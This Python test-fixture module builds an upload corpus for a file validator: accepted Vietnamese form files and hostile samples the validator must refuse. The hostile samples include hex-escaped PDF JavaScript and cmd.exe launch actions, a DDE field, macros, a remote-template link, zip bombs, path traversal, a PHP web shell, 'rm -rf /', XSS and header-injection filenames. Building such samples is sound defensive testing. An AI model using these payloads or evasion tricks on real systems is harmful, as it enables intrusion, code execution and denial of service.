"""Builders for the upload corpus: every allowed type, and hostile files.

Everything is generated here by code (no binary blobs in the repository). The
EICAR test string is assembled at run time, so no antivirus flags this source.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass

from PIL import Image

from forms_library import samples
from forms_library.validation import KINDS

FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(
    name: str, kind: int, child: int, start: int, size: int, right: int = NOSTREAM
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return (
        encoded.ljust(64, b"\0")
        + struct.pack("<HBB", len(encoded), kind, 1 if name else 0)
        + struct.pack("<III", NOSTREAM, right, child)
        + b"\0" * 16
        + struct.pack("<I", 0)
        + b"\0" * 16
        + struct.pack("<IQ", start, size)
    )


def ole_bytes(
    stream_name: str, extra_stream: str | None = None, data: bytes | None = None
) -> bytes:
    """A valid compound file (the DOC/XLS container) with one 4 KiB stream."""
    sectors = 8
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", FREE) * 108
    )
    fat = [FATSECT, END] + [3 + i for i in range(sectors - 1)] + [END]
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    # The extra entry hangs off the first one's right sibling, so any reader
    # walking the directory tree (Word, olefile) sees it.
    entries = _dir_entry("Root Entry", 5, 1, END, 0) + _dir_entry(
        stream_name, 2, NOSTREAM, 2, 4096, right=2 if extra_stream else NOSTREAM
    )
    entries += _dir_entry(extra_stream, 2, NOSTREAM, END, 0) if extra_stream else b""
    directory = entries.ljust(512, b"\0")
    stream = (data if data is not None else b"Mau so 01 " * 500)[:4096].ljust(
        4096, b"\0"
    )
    return header + fat_sector + directory + stream


def png_bytes(trailer: bytes = b"", text: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    image = Image.new("RGB", (40, 30), (200, 30, 30))
    if text is not None:
        from PIL.PngImagePlugin import PngInfo

        info = PngInfo()
        info.add_text("Comment", text.decode())
        image.save(buffer, "PNG", pnginfo=info)
    else:
        image.save(buffer, "PNG")
    return buffer.getvalue() + trailer


def jpeg_bytes(trailer: bytes = b"") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (20, 120, 30)).save(buffer, "JPEG")
    return buffer.getvalue() + trailer


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Tờ khai"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with(extra: dict[str, bytes]) -> bytes:
    """A real DOCX with extra parts added (for bombs, traversal, macros)."""
    source = zipfile.ZipFile(io.BytesIO(samples.docx_bytes("Mẫu 01", "Đơn", ["x"])))
    entries = {info.filename: source.read(info) for info in source.infolist()}
    entries.update(extra)
    return zip_bytes(entries)


ODT = samples.opendocument_bytes(
    KINDS["odt"].mime_type,
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns'
    ':office:1.0"><office:body><office:text/></office:body></office:document-content>',
)
ODS = samples.opendocument_bytes(
    KINDS["ods"].mime_type,
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns'
    ':office:1.0"><office:body><office:spreadsheet/></office:body>'
    "</office:document-content>",
)


def png_with_html_pixels() -> bytes:
    """A valid PNG whose uncompressed (stored) image data spells out a script."""
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body).to_bytes(4, "big")
        return len(body).to_bytes(4, "big") + kind + body + crc

    script = b"<script>alert(document.domain)</script>"
    width = len(script)
    header = struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)  # 8-bit grey
    raw = b"\x00" + script  # filter byte + one scanline
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw, 0))
        + chunk(b"IEND", b"")
    )


# --- PDFs ---------------------------------------------------------------------------

PAGE_OBJECTS = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
    b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
    4: b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Mau so 01) Tj ET\n\n"
    b"endstream",
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
}


def pdf_document(
    catalog: bytes = b"",
    extra: dict[int, bytes] | None = None,
    compressed: Iterable[int] = (),
    tail: bytes = b"",
) -> bytes:
    """A one-page PDF; objects listed in ``compressed`` go into an object stream
    (PDF 1.5, with a cross-reference stream), the others are plain objects."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>"}
    objects.update(PAGE_OBJECTS)
    objects.update(extra or {})
    packed = sorted(set(compressed))
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        if number in packed:
            continue
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
    size = max(objects) + 1
    if not packed:
        xref = out.tell()
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for number in range(1, size):
            if number in offsets:
                out.write(b"%010d 00000 n \n" % offsets[number])
            else:
                out.write(b"0000000000 65535 f \n")
        out.write(
            b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (size, xref)
        )
        return out.getvalue() + tail
    stream_number, xref_number = size, size + 1
    bodies, pairs = b"", []
    for number in packed:
        pairs.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number] + b"\n"
    header = b" ".join(pairs) + b"\n"
    data = zlib.compress(header + bodies)
    offsets[stream_number] = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % (stream_number, len(packed), len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    offsets[xref_number] = out.tell()
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in packed:
            rows += struct.pack(">BIH", 2, stream_number, packed.index(number))
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    )
    return out.getvalue() + tail


def eicar() -> bytes:
    """The EICAR anti-virus test string, assembled so this file never holds it."""
    return (
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
        + b"EICAR-STANDARD-"
        + b"ANTIVIRUS-TEST-FILE!$H+H*"
    )


# --- OOXML and OpenDocument packages ------------------------------------------------

W_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def docx_package(
    *,
    parts: dict[str, bytes] | None = None,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    relationships: list[tuple[str, str, str]] | None = None,
    body: str = "<w:p><w:r><w:t>Mau so 01</w:t></w:r></w:p>",
) -> bytes:
    """A DOCX built part by part: extra parts, content types, document rels."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(
            f'<Default Extension="{ext}" ContentType="{ct}"/>'
            for ext, ct in (defaults or {}).items()
        )
        + f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}'
        '.main+xml"/>'
        + "".join(
            f'<Override PartName="{name}" ContentType="{ct}"/>'
            for name, ct in (overrides or {}).items()
        )
        + "</Types>"
    )
    package_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i + 10}" Type="{kind}" Target="{target}"'
            + (f' TargetMode="{mode}"' if mode else "")
            + "/>"
            for i, (kind, target, mode) in enumerate(relationships or [])
        )
        + "</Relationships>"
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W_MAIN}" xmlns:r="{REL}"><w:body>{body}'
        "<w:sectPr/></w:body></w:document>"
    )
    entries = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": package_rels.encode(),
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": document_rels.encode(),
    }
    entries.update(parts or {})
    return zip_bytes(entries)


def odt_with(content: str, extra: dict[str, bytes] | None = None) -> bytes:
    """An ODT whose content.xml body is ``content``, plus extra entries."""
    source = zipfile.ZipFile(
        io.BytesIO(
            samples.opendocument_bytes(
                KINDS["odt"].mime_type,
                '<office:document-content xmlns:office="urn:oasis:names:tc:'
                'opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:'
                'opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/'
                'xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
                'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
                f"{content}"
                "</office:document-content>",
            )
        )
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def falsify_sizes(archive: bytes, member: str, declared: int) -> bytes:
    """Rewrite a member's uncompressed size in both headers (CRC left as is)."""
    out = bytearray(archive)
    encoded = member.encode()
    local = out.find(b"PK\x03\x04")
    while local != -1:
        name_length = int.from_bytes(out[local + 26 : local + 28], "little")
        if bytes(out[local + 30 : local + 30 + name_length]) == encoded:
            out[local + 22 : local + 26] = declared.to_bytes(4, "little")
            break
        local = out.find(b"PK\x03\x04", local + 4)
    central = out.find(b"PK\x01\x02")
    while central != -1:
        name_length = int.from_bytes(out[central + 28 : central + 30], "little")
        if bytes(out[central + 46 : central + 46 + name_length]) == encoded:
            out[central + 24 : central + 28] = declared.to_bytes(4, "little")
            break
        central = out.find(b"PK\x01\x02", central + 4)
    return bytes(out)


def biff_workbook(macro_sheet: bool) -> bytes:
    """A BIFF8 workbook-globals stream: BOF, one BOUNDSHEET, EOF."""

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    sheet_type = 0x01 if macro_sheet else 0x00
    name = b"Macro1" if macro_sheet else b"Sheet1"
    boundsheet = struct.pack("<IBB", 0, 0, sheet_type) + bytes([len(name), 0]) + name
    return (
        record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
        + record(0x0085, boundsheet)
        + record(0x000A, b"")
    )


# --- the hostile corpus ---------------------------------------------------------------

HTML = (
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>"
)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + b"\x00" * 50
    + b"This program cannot be run in DOS mode"
)
GOOD_PDF = samples.text_pdf_bytes(["Mau so 01"])
OPEN_JS = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"


@dataclass(frozen=True)
class Hostile:
    """One hostile upload: what it is, how it is sent, why it must be refused."""

    label: str
    name: str
    content: bytes
    code: str
    allow_images: bool = False
    needs_clamd: bool = False
    # Accepted by the validator of December 2026 (the outside review's 13).
    got_through_before: bool = False


def _nested_zip_bomb() -> bytes:
    """42.zip in small: every layer is ten copies of the layer below, deflated,
    so the file is a few kilobytes and the innermost layer 10 x 10 x 10 MiB."""
    layer = zip_bytes({f"{i}.bin": b"\0" * (1024 * 1024) for i in range(10)})
    for _ in range(2):
        layer = zip_bytes({f"{i}.zip": layer for i in range(10)})
    return layer


def hostile_files() -> list[Hostile]:
    """Every hostile file the validator must refuse, built on the spot."""
    vba = ole_bytes("_VBA_PROJECT_CUR")
    ole_object = ole_bytes("\x01Ole10Native", data=EXE)
    zeros = b"\0" * (60 * 1024 * 1024)
    false_sizes = falsify_sizes(
        docx_package(parts={"word/media/image1.bin": zeros}),
        "word/media/image1.bin",
        1000,
    )
    rows = [
        # What the outside review got through (13 files).
        Hostile(
            "pdf-hex-escaped-javascript",
            "don.pdf",
            pdf_document(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "pdf_active_content",
            got_through_before=True,
        ),
        Hostile(
            "pdf-hex-escaped-launch",
            "don.pdf",
            pdf_document(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
            "pdf_active_content",
            got_through_before=True,
        ),
        Hostile(
            "pdf-javascript-in-object-stream",
            "don.pdf",
            pdf_document(
                b"/OpenAction 6 0 R",
                {6: b"<< /S /JavaScript /JS (app.alert(1)) >>"},
                compressed={1, 6},
            ),
            "pdf_active_content",
            got_through_before=True,
        ),
        Hostile(
            "pdf-embedded-exe",
            "don.pdf",
            pdf_document(
                b"/Names << /EmbeddedFiles << /Names [(hoadon.exe) 6 0 R] >> >>",
                {
                    6: b"<< /Type /Filespec /F (hoadon.exe) /EF << /F 7 0 R >> >>",
                    7: b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(EXE)
                    + EXE
                    + b"\nendstream",
                },
            ),
            "pdf_embedded_file",
            got_through_before=True,
        ),
        Hostile(
            "html-after-the-first-4-kb",
            "don.pdf",
            GOOD_PDF + b"%" + b"0" * 5000 + b"\n" + HTML + b"\n",
            "polyglot",
            got_through_before=True,
        ),
        Hostile(
            "docx-macro-part-renamed",
            "don.docx",
            docx_package(
                parts={"word/customXml2.dat": vba},
                overrides={
                    "/word/customXml2.dat": "application/vnd.ms-office.vbaProject"
                },
                relationships=[
                    (
                        "http://schemas.microsoft.com/office/2006/relationships/"
                        "vbaProject",
                        "customXml2.dat",
                        "",
                    ),
                ],
            ),
            "macros",
            got_through_before=True,
        ),
        Hostile(
            "docx-embedded-ole-object",
            "don.docx",
            docx_package(
                parts={"word/embeddings/oleObject1.bin": ole_object},
                defaults={
                    "bin": "application/vnd.openxmlformats-officedocument.oleObject"
                },
                relationships=[
                    (f"{REL}/oleObject", "embeddings/oleObject1.bin", ""),
                ],
            ),
            "ole_object",
            got_through_before=True,
        ),
        Hostile(
            "docx-remote-template",
            "don.docx",
            docx_package(
                parts={
                    "word/settings.xml": (
                        f'<w:settings xmlns:w="{W_MAIN}" xmlns:r="{REL}">'
                        '<w:attachedTemplate r:id="rId1"/></w:settings>'
                    ).encode(),
                    "word/_rels/settings.xml.rels": (
                        '<Relationships xmlns="http://schemas.openxmlformats.org/'
                        'package/2006/relationships"><Relationship Id="rId1" '
                        f'Type="{REL}/attachedTemplate" '
                        'Target="http://203.0.113.9/mau.dotm" TargetMode="External"/>'
                        "</Relationships>"
                    ).encode(),
                },
                relationships=[(f"{REL}/settings", "settings.xml", "")],
            ),
            "external_link",
            got_through_before=True,
        ),
        Hostile(
            "odt-starbasic-macro",
            "don.odt",
            odt_with(
                "<office:body><office:text><text:p>Mau so 01</text:p></office:text>"
                "</office:body>",
                {
                    "Basic/Standard/Module1.xml": (
                        b'<script:module script:name="Module1" script:language='
                        b'"StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'
                    ),
                    "Basic/script-lc.xml": b"<library:libraries/>",
                },
            ),
            "macros",
            got_through_before=True,
        ),
        Hostile(
            "pdf-zip-polyglot-compressed-members",
            "don.pdf",
            GOOD_PDF + zip_bytes({"payload.html": HTML * 20, "run.js": b"x" * 2000}),
            "polyglot",
            got_through_before=True,
        ),
        Hostile(
            "zip-bomb-falsified-sizes",
            "don.docx",
            false_sizes,
            "zip_bomb",
            got_through_before=True,
        ),
        Hostile(
            "nested-zip-bomb",
            "don.docx",
            docx_package(parts={"word/media/image2.zip": _nested_zip_bomb()}),
            "zip_nested",
            got_through_before=True,
        ),
        Hostile(
            "eicar-inside-a-pdf",
            "don.pdf",
            pdf_document(tail=b"\n" + eicar() + b"\n"),
            "virus",
            needs_clamd=True,
            got_through_before=True,
        ),
        # Variants of the same holes.
        Hostile(
            "nested-zip-bomb-as-chart-workbook",
            "don.docx",
            docx_package(
                parts={
                    "word/embeddings/Microsoft_Excel_Sheet1.xlsx": _nested_zip_bomb()
                }
            ),
            "zip_nested",
        ),
        Hostile(
            "pdf-javascript-name-tree-hex",
            "don.pdf",
            pdf_document(
                b"/Names << /J#61v#61Script 6 0 R >>",
                {6: b"<< /Names [(a) << /S /JavaScript /JS (1) >>] >>"},
                compressed={1, 6},
            ),
            "pdf_active_content",
        ),
        Hostile(
            "pdf-xfa-form",
            "don.pdf",
            pdf_document(b"/AcroForm << /Fields [] /XFA 6 0 R >>", {6: b"[]"}),
            "pdf_rich_media",
        ),
        Hostile(
            "pdf-file-attachment-annotation",
            "don.pdf",
            pdf_document(extra={6: b"<< /Type /Annot /Subtype /FileAttachment >>"}),
            "pdf_embedded_file",
        ),
        Hostile(
            "docx-dde-field",
            "don.docx",
            docx_package(
                body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                "<w:r><w:instrText>DD</w:instrText></w:r>"
                '<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
                "</w:instrText></w:r>"
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "dde",
        ),
        Hostile(
            "docx-template-on-a-network-share",
            "don.docx",
            docx_package(
                relationships=[
                    (
                        f"{REL}/attachedTemplate",
                        "file://203.0.113.9/share/mau.dotm",
                        "External",
                    )
                ]
            ),
            "external_link",
        ),
        Hostile(
            "docx-remote-image",
            "don.docx",
            docx_package(
                relationships=[
                    (f"{REL}/image", "\\\\203.0.113.9\\share\\a.png", "External")
                ]
            ),
            "external_link",
        ),
        Hostile(
            "docx-activex-control",
            "don.docx",
            docx_package(
                parts={"word/activeX/activeX1.xml": b"<ax:ocx/>"},
                overrides={
                    "/word/activeX/activeX1.xml": (
                        "application/vnd.ms-office.activeX+xml"
                    )
                },
            ),
            "ole_object",
        ),
        Hostile(
            "xls-excel4-macro-sheet",
            "bang.xls",
            ole_bytes("Workbook", data=biff_workbook(macro_sheet=True)),
            "macros",
        ),
        Hostile(
            "doc-embedded-object-pool",
            "don.doc",
            ole_bytes("WordDocument", extra_stream="ObjectPool"),
            "ole_object",
        ),
        Hostile(
            "odt-macro-event-binding",
            "don.odt",
            odt_with(
                "<office:scripts><office:event-listeners><script:event-listener "
                'script:language="ooo:script" script:event-name="dom:load" '
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic'
                '&amp;location=document"/></office:event-listeners></office:scripts>'
                "<office:body><office:text/></office:body>"
            ),
            "macros",
        ),
        Hostile(
            "odt-ole-object",
            "don.odt",
            odt_with(
                "<office:body><office:text/></office:body>",
                {"Object 1": ole_object},
            ),
            "ole_object",
        ),
        Hostile(
            "zip-entries-with-one-name",
            "don.docx",
            _duplicate_entry_docx(),
            "zip_duplicate",
        ),
    ]
    return rows + [
        Hostile(f"legacy-{i:02d}-{code}", name, content, code, allow_images)
        for i, (name, content, allow_images, code) in enumerate(legacy_hostile())
    ]


def _duplicate_entry_docx() -> bytes:
    buffer = io.BytesIO(docx_package())
    with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        archive.writestr("word/document.xml", b"<w:document/>")
    return buffer.getvalue()


def legacy_hostile() -> list[tuple[str, bytes, bool, str]]:
    """The corpus refused before the review: (name, content, images?, code)."""
    return [
        ("trang.html", HTML, False, "markup"),
        ("don.pdf", HTML, False, "markup"),
        ("anh.svg", SVG, True, "markup"),
        ("anh.png", SVG, True, "markup"),
        (
            "xhtml-bom.pdf",
            b"\xef\xbb\xbf  <html><script>x</script></html>",
            False,
            "markup",
        ),
        ("to-khai.pdf", EXE, False, "executable"),
        ("to-khai.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, False, "executable"),
        ("don.pdf", b"#!/bin/sh\nrm -rf /\n", False, "script"),
        ("don.doc", b"<?php system($_GET['c']); ?>", False, "script"),
        (
            "anh.png",
            png_bytes(b"<html><script>alert(1)</script></html>"),
            True,
            "polyglot",
        ),
        ("anh.png", png_bytes(text=b"<script>alert(1)</script>"), True, "polyglot"),
        ("anh.jpg", jpeg_bytes(b"<script>alert(1)</script>"), True, "polyglot"),
        ("anh.png", png_with_html_pixels(), True, "polyglot"),
        (
            "don.pdf",
            b"%PDF-1.4\n<html><script>alert(1)</script></html>\n",
            False,
            "polyglot",
        ),
        (
            "don.pdf",
            GOOD_PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + OPEN_JS),
            False,
            "pdf_active_content",
        ),
        (
            "bom.docx",
            docx_with({"word/media/a.bin": b"\0" * (20 * 1024 * 1024)}),
            False,
            "zip_bomb",
        ),
        (
            "duong-dan.docx",
            docx_with({"../../../etc/cron.d/x": b"* * * * * sh"}),
            False,
            "zip_unsafe_path",
        ),
        (
            "tuyet-doi.docx",
            docx_with({"/etc/passwd": b"root"}),
            False,
            "zip_unsafe_path",
        ),
        (
            "nhieu.docx",
            docx_with({f"word/p{i}.xml": b"<a/>" for i in range(1001)}),
            False,
            "zip_too_many_entries",
        ),
        ("nen.zip", zip_bytes({"don.pdf": GOOD_PDF}), False, "archive"),
        ("nen.pdf", b"\x1f\x8b\x08\x00" + b"\x00" * 30, False, "archive"),
        (
            "macro.docx",
            docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            False,
            "macros",
        ),
        (
            "macro.doc",
            ole_bytes("WordDocument", extra_stream="Macros"),
            False,
            "macros",
        ),
        ("rong.pdf", b"", False, "empty"),
        ("trang.pdf", b"\x00\x00  \r\n", False, "empty"),
        ("anh.jpg", jpeg_bytes(), False, "image_not_allowed"),
        (
            "doi-tuong.rtf",
            b"{\\rtf1 {\\object\\objemb {\\*\\objdata 0105000002}}}",
            False,
            "rtf_object",
        ),
        ("la.bin", b"\x00\x01\x02\x03 random bytes", False, "unsupported_type"),
        ("../../etc/passwd.pdf", GOOD_PDF, False, "name_unsafe"),
        ("..\\..\\boot.ini.pdf", GOOD_PDF, False, "name_unsafe"),
        ('Đơn "đề nghị".pdf', GOOD_PDF, False, "name_unsafe"),
        ("don.pdf\r\nSet-Cookie: a=b", GOOD_PDF, False, "name_unsafe"),
        ("don\x00.pdf", GOOD_PDF, False, "name_unsafe"),
        ("hoa-don\u202efdp.exe", GOOD_PDF, False, "name_bidi"),
        ("anh\u2066gnp.js", GOOD_PDF, False, "name_bidi"),
        ("", GOOD_PDF, False, "name_empty"),
    ]


# (name, bytes, expected kind code) accepted when images are allowed.
ALLOWED = [
    ("Tờ khai đăng ký.pdf", samples.text_pdf_bytes(["Mau so 01"]), "pdf"),
    ("Mẫu số 02.pdf", samples.pdf_bytes("Mẫu số 02", "Đơn đề nghị", ["Họ tên"]), "pdf"),
    (
        "Đơn đề nghị.docx",
        samples.docx_bytes("Mẫu số 01", "Đơn đề nghị", ["Họ"]),
        "docx",
    ),
    ("Bảng kê.xlsx", xlsx_bytes(), "xlsx"),
    ("Đơn.doc", ole_bytes("WordDocument"), "doc"),
    ("Bảng.xls", ole_bytes("Workbook"), "xls"),
    (
        "Bảng BIFF8.xls",
        ole_bytes("Workbook", data=biff_workbook(macro_sheet=False)),
        "xls",
    ),
    ("Văn bản.odt", ODT, "odt"),
    ("Bảng tính.ods", ODS, "ods"),
    (
        "Đơn.rtf",
        b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Arial;}} \\f0 Don de nghi}",
        "rtf",
    ),
    ("Ảnh chân dung.jpg", jpeg_bytes(), "jpeg"),
    # PDF 1.5 with an object stream and a cross-reference stream (no scripts).
    ("Tờ khai nén.pdf", pdf_document(compressed={1, 2, 3}), "pdf"),
    # An outside hyperlink is allowed; only links that load content are not.
    (
        "Hướng dẫn.docx",
        docx_package(
            relationships=[
                (f"{REL}/hyperlink", "https://dichvucong.gov.vn/", "External")
            ]
        ),
        "docx",
    ),
    # Made from a template on the author's own disk, as Word records it.
    (
        "Từ mẫu.docx",
        docx_package(
            relationships=[
                (
                    f"{REL}/attachedTemplate",
                    "file:///C:/Users/canbo/AppData/Roaming/Microsoft/Templates/"
                    "Normal.dotm",
                    "External",
                )
            ]
        ),
        "docx",
    ),
    (
        "Sổ tay.odt",
        odt_with(
            '<office:body><office:text><text:p><text:a xlink:href="https://caobang'
            '.gov.vn/">Cổng</text:a></text:p></office:text></office:body>'
        ),
        "odt",
    ),
    ("Ảnh CCCD.png", png_bytes(), "png"),
]
